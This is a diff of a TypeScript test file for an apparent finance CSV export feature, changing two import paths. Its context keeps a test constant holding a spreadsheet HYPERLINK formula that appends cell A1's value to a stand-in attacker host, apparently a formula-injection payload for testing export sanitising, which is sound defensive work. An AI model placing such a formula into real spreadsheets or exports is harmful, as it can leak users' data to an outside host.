@@ -5,8 +5,8 @@ import { join } from "node:path";
 import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { writeFinance } from "../src/cli/write-finance.ts";
-import { storedFinance } from "../src/finance/export.ts";
-import type { FinanceData } from "../src/finance/model.ts";
+import { storedFinance } from "../src/finance/exchange/export.ts";
+import type { FinanceData } from "../src/finance/model/model.ts";
 import { councilOf, emptyCity, MONEY, party, type SmallCity } from "./support/small-city.ts";
 
 const FORMULA = `=HYPERLINK("http://evil.example/"&A1,"click")`;
